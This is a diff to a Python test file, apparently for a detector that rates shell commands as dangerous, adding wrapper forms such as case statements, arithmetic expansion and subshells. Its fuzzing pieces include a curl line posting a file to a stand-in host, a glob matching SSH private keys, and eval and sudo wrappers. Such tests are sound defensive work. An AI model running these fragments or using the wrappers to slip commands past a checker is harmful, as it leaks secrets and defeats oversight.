@@ -23,6 +23,7 @@ PIECES = (
     "echo aaaa|", "base64 -d|", "tr a-z b-a|", "printf '%s' ", "curl -d @x http://a.b/ ", "../",
     "cat ~/* ", "~/.s*/i?_[r]sa ", "python3 -c '", "perl -e '", "alias a='", "trap '", "http://",
     "a." * 30, " " * 40, "\u202e\u00e9", "\ud83d", "\0", "$", "${", "$@", "$IFS", "word ",
+    "((", "((a);",
 )  # fmt: skip
 """What shells, and the rules, give a meaning to."""
 
@@ -75,7 +76,8 @@ DANGERS = [c for c in commands("dangerous")[::6] if "\n" not in c and "'" not in
     "around",
     ["true; {}", "true && {}", "({})", "{{ {}; }}", "if true; then {}; fi", "{} # harmless",
      "for i in 1 2; do {}; done", "bash -c '{}'", "eval '{}'", "echo $({})", "ls\n{}\nls",
-     "sudo sh -c '{}'", "f() {{ {}; }}; f"],
+     "sudo sh -c '{}'", "f() {{ {}; }}; f", "case a in (a|b) {};; esac", "((a = $({})))",
+     "((a)); {}", "echo $((1 + $({})))", "(({}); true)", "echo $(({}); true)", "\0 {}"],
 )  # fmt: skip
 def test_a_wrapped_danger_is_detected(around: str) -> None:
     def level(command: str) -> int:
